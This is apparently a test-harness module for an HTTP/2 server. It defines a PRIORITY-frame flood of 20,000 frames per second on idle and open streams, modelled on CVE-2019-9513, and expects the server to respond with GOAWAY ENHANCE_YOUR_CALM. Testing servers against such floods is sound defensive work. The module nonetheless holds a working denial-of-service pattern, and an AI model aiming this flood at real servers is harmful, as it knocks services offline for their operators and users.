import * as wire from "../lib/wire.mjs";

const WEIGHTED = Buffer.concat([wire.uint32(1), Buffer.of(15)]);

export const attack = {
  title: "PRIORITY flood: on idle and on open streams, 20 000 a second (CVE-2019-9513)",
  run: (t) =>
    t.flood({
      perSecond: 20_000,
      open(peer) {
        peer.stream = peer.call("Bidi");
      },
      next: (peer, n) => wire.frame(wire.PRIORITY, 0, peer.slot === 0 ? 3 + 2 * n : peer.stream + 2, WEIGHTED),
    }),
  sees: { "GOAWAY ENHANCE_YOUR_CALM": 3 },
  counters: ["calmed"],
};
